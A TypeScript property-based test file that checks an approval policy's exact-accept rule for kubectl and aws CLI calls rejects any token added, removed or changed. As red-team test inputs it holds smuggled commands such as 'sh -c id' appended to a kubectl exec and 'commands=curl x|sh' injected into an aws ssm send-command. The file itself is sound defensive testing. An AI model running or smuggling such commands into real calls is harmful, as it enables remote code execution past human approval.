/**
 * The exact accept rule the approval page offers (src/policy/exact-rule.ts):
 * it accepts the call the operator saw and no call with a token added, removed
 * or changed (red-team F6: a literal rule is a prefix, and an argparse rule's
 * options match anywhere), through the bundled providers' own grammars and the
 * test grammars, with random tokens full of pattern syntax.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { compilePolicy, type CompiledPolicy } from "../../../src/policy/compile.js";
import { evaluatePolicy } from "../../../src/policy/evaluate.js";
import { exactAcceptRule } from "../../../src/policy/exact-rule.js";
import type { ProviderPolicyContext } from "../../../src/policy/types.js";
import { context } from "../../support/grammars.js";
import { argvArb, GRAMMAR_NAMES, GRAMMARS } from "../../support/policy-arbitraries.js";
import { bundledPolicyContext, ruleList } from "../../support/policy-helpers.js";
import { credentialStoreIn } from "../../../src/policy/grammar/credential-paths.js";

const kubectl = bundledPolicyContext("kubectl");
const aws = bundledPolicyContext("aws");

function ruleFor(ctx: ProviderPolicyContext, argv: readonly string[]): string {
  const offered = exactAcceptRule(compilePolicy(ctx, { shared: ruleList() }), argv);
  if (!("rule" in offered)) throw new Error(`no exact rule for ${JSON.stringify(argv)}: ${offered.reason}`);
  return offered.rule;
}

function withAccept(ctx: ProviderPolicyContext, rule: string): CompiledPolicy {
  const policy = compilePolicy(ctx, { shared: ruleList([], [rule]) });
  expect(policy.errors).toEqual([]);
  return policy;
}

const accepts = (policy: CompiledPolicy, argv: readonly string[]): boolean => evaluatePolicy(policy, argv).decision.result === "accept";

describe("the exact rule accepts the call and nothing appended (the red team's calls)", () => {
  it("kubectl exec web-1 -- env: not env sh -c id, not another pod, not an option added", () => {
    const rule = ruleFor(kubectl, ["exec", "web-1", "--", "env"]);
    const policy = withAccept(kubectl, rule);
    expect(accepts(policy, ["exec", "web-1", "--", "env"])).toBe(true);
    expect(accepts(policy, ["exec", "pod/web-1", "--", "env"])).toBe(true); // the same pod, as kubectl reads it
    for (const other of [
      ["exec", "web-1", "--", "env", "sh", "-c", "id"],
      ["exec", "web-1", "-i", "--", "env"],
      ["exec", "web-1", "-c", "side", "--", "env"],
      ["exec", "web-10", "--", "env"],
      ["exec", "web-1", "--", "env2"],
      ["exec", "-n", "kube-system", "web-1", "--", "env"],
    ]) {
      expect(accepts(policy, other), other.join(" ")).toBe(false);
    }
  });

  it("aws ssm send-command: a second --parameters appended (the CLI keeps the last) is not accepted", () => {
    const call = ["ssm", "send-command", "--instance-ids", "i-1", "--document-name", "AWS-RunShellScript", "--parameters", "commands=uptime"];
    const policy = withAccept(aws, ruleFor(aws, call));
    expect(accepts(policy, call)).toBe(true);
    expect(accepts(policy, [...call, "--parameters", "commands=curl x|sh"])).toBe(false);
    expect(accepts(policy, [...call.slice(0, 2), "--parameters", "commands=curl x|sh", ...call.slice(2)])).toBe(false);
    expect(accepts(policy, [...call, "--region", "eu-west-1"])).toBe(false);
    expect(accepts(policy, call.slice(0, -1))).toBe(false);
  });

  it("a call naming several resources gets one alternative per reading: a reading alone is accepted, another type is not", () => {
    const policy = withAccept(kubectl, ruleFor(kubectl, ["get", "pods,services", "web"]));
    expect(accepts(policy, ["get", "pods,services", "web"])).toBe(true);
    expect(accepts(policy, ["get", "svc", "web"])).toBe(true);
    expect(accepts(policy, ["get", "pods,secrets", "web"])).toBe(false);
    expect(accepts(policy, ["get", "pods,services", "web", "db"])).toBe(false);
  });

  it("tokens with white space, control characters or nothing in them get no rule, with the reason", () => {
    const empty = compilePolicy(kubectl, { shared: ruleList() });
    for (const argv of [["get", "pods", "a b"], ["get", ""], ["get", "pods\u0007"], []]) {
      expect(exactAcceptRule(empty, argv)).toHaveProperty("reason");
    }
  });
});

/** A whitespace-free token, often pattern syntax. */
// A token naming a credential store (`~`, `a.env`) is refused before any rule (credential-paths.ts): no rule names it.
const tokenArb = fc.stringMatching(/^[!-~]{1,6}$/u).filter((token) => credentialStoreIn(token) === undefined);

describe("properties", () => {
  it("plain: for random tokens, the rule accepts exactly the argv (every other whitespace-free argv is not accepted)", () => {
    const plain = context("plain", GRAMMARS.plain.spec, []);
    fc.assert(
      fc.property(fc.array(tokenArb, { minLength: 1, maxLength: 5 }), fc.array(tokenArb, { maxLength: 6 }), (argv, other) => {
        const policy = withAccept(plain, ruleFor(plain, argv));
        expect(accepts(policy, argv)).toBe(true);
        expect(accepts(policy, other)).toBe(other.length === argv.length && other.every((token, i) => token === argv[i]));
      }),
      { numRuns: 300 },
    );
  });

  for (const name of GRAMMAR_NAMES) {
    it(`${name}: an argv with a token appended or inserted is accepted only if it is the same canonical call`, () => {
      const ctx = context(name, GRAMMARS[name].spec, GRAMMARS[name].locked);
      const empty = compilePolicy(ctx, { shared: ruleList() });
      fc.assert(
        fc.property(argvArb(name), argvArb(name), fc.nat(), (argv, extra, at) => {
          const offered = exactAcceptRule(empty, argv);
          fc.pre("rule" in offered);
          if (!("rule" in offered)) return;
          const policy = withAccept(ctx, offered.rule);
          const seen = evaluatePolicy(empty, argv).canonicalTokens;
          expect(accepts(policy, argv)).toBe(true);
          const position = argv.length === 0 ? 0 : at % (argv.length + 1);
          const changed = [...argv.slice(0, position), ...extra, ...argv.slice(position)];
          const result = evaluatePolicy(policy, changed);
          if (result.decision.result === "accept") expect(result.canonicalTokens).toEqual(seen);
        }),
        { numRuns: 300 },
      );
    });
  }
});
